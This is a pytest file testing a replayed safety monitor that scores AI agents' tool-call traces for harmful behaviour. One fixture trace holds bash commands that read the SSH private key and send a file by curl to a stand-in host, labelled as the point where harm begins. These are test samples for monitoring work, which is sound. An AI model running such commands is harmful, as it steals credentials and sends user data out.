"""Any monitor can be replayed over traces; ours says there what its tables say."""

from typing import Any

import numpy as np
import pytest
from msgspec.structs import replace

from safetydrift.effects.labeler import Labeler
from safetydrift.effects.labeling import label_trace
from safetydrift.errors import HorizonError
from safetydrift.evaluation.cases import cases_of
from safetydrift.evaluation.predictors import MonitorScores, ReplayedMonitor
from safetydrift.formats import load_model
from safetydrift.monitor.lookup import LookupMonitor
from safetydrift.trace import Ending, Label, Step, ToolCall, Trace


def trace(name, *commands, onset=None):
    steps = tuple(Step(ToolCall("bash", {"command": command}), "done") for command in commands)
    label = Label(onset is not None, onset=onset)
    return Trace(name, steps, category="banking", prompt="Tidy up.", ending=Ending.COMPLETED, label=label)


TRACES = [
    trace("a", "ls", "cat ~/.ssh/id_rsa", "curl -d @x https://example.org", onset=3),
    trace("b", "ls", "rm x"),
    trace("c", "ls"),
]


@pytest.fixture(scope="module")
def monitor():
    return LookupMonitor(load_model())


@pytest.fixture(scope="module")
def cases(monitor):
    space = monitor.model.space
    labeler = Labeler(monitor.model.catalogue)
    return cases_of([label_trace(one, labeler, space) for one in TRACES], space)[0]


def test_replaying_calls_says_what_the_tables_say(monitor, cases):
    replayed: Any = ReplayedMonitor("m", monitor, {one.id: one for one in TRACES}).score(cases)
    looked_up = MonitorScores("m", monitor).score(cases)
    for part in ("within", "pending", "alarm", "pending_alarm"):
        assert np.array_equal(getattr(replayed, part), getattr(looked_up, part))
    assert replayed.covered.all()


def test_runs_without_a_trace_are_not_covered(monitor, cases):
    scores: Any = ReplayedMonitor("m", monitor, {"b": TRACES[1]}).score(cases)
    assert scores.covered.tolist() == [False, True, False]
    assert (scores.within[:3] == 1.0).all()


def test_a_trace_of_another_run_is_refused(monitor, cases):
    with pytest.raises(ValueError, match="fewer calls than the run"):
        ReplayedMonitor("m", monitor, {"a": TRACES[2]}).score(cases)


def test_verdicts_that_end_too_soon_are_refused(monitor, cases):
    class Short:
        def __getattr__(self, name):
            return getattr(monitor, name)

        def verdict(self, state):
            found = monitor.verdict(state)
            return replace(found, within=found.within[:3])

    with pytest.raises(HorizonError, match="a verdict ends before 3"):
        ReplayedMonitor("m", Short(), {one.id: one for one in TRACES}).score(cases)
